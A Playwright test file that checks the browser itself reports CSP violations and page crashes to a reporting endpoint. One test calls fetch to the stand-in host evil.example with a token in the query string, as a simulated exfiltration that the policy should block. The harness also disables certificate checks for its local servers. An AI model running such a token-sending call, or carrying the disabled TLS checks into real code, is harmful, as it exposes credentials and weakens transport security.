import { createReportHandler, type ReceivedReport } from '@laundry-board/reports';
import {
  expect,
  expectRefusal,
  frontOverTls,
  serveOverTls,
  serveOwnShell,
  test as base,
} from '../../support/test.ts';

interface Reported {
  /** Of the shell: browsers report only what happened over TLS. */
  readonly origin: string;
  /** What the receiver has made of what the browser has sent by itself. */
  readonly byBrowser: ReceivedReport[];
}

const test = base.extend<{ overTls: Reported }>({
  overTls: async ({ site }, use) => {
    const byBrowser: ReceivedReport[] = [];
    const origins: string[] = [];
    const handle = createReportHandler({
      origins,
      // A browser does not know the release.
      write: (report) => report.version === 'unknown' && byBrowser.push(report),
    });
    const receiver = await serveOverTls((request, response) => void handle(request, response));
    const reportEndpoint = `${receiver.origin}/reports`;
    const shell = await serveOwnShell({ ...site.config, reportEndpoint });
    const front = await frontOverTls(shell.origin);
    origins.push(front.origin);
    await use({ origin: front.origin, byBrowser });
    await Promise.all([front.close(), shell.close(), receiver.close()]);
  },
});

// A browser of their own is started once for all of them.
test.describe.configure({ mode: 'default' });

test.use({
  ignoreHTTPSErrors: true,
  // Everybody has it, but for a browser without windows. Chrome asks for it before it sends a report.
  permissions: ['background-sync'],
  launchOptions: async ({ launchOptions }, use) => {
    const args = ['--ignore-certificate-errors', '--short-reporting-delay'];
    await use({ ...launchOptions, args: [...(launchOptions.args ?? []), ...args] });
  },
});

test('a violation of the policy is reported by the browser itself @rare', async ({
  page,
  pageConsole,
  overTls,
}) => {
  expectRefusal(pageConsole, /connect-src https:\/\/evil/);
  await page.goto(overTls.origin);
  await page.evaluate(() => fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
  await expect
    .poll(() => overTls.byBrowser)
    .toEqual([
      {
        type: 'violation',
        time: expect.any(Number),
        version: 'unknown',
        directive: 'connect-src',
        blocked: 'other',
      },
    ]);
  // A page that outlives its site complains about it.
  await page.goto('about:blank');
});

test('a crash of the page is reported by the browser itself @rare', async ({ page, overTls }) => {
  await page.goto(overTls.origin);
  const devTools = await page.context().newCDPSession(page);
  // A page that has crashed answers nothing.
  devTools.send('Page.crash').catch(() => {});
  await expect
    .poll(() => overTls.byBrowser)
    .toMatchObject([{ type: 'error', failure: 'crashed', message: 'crashed' }]);
});
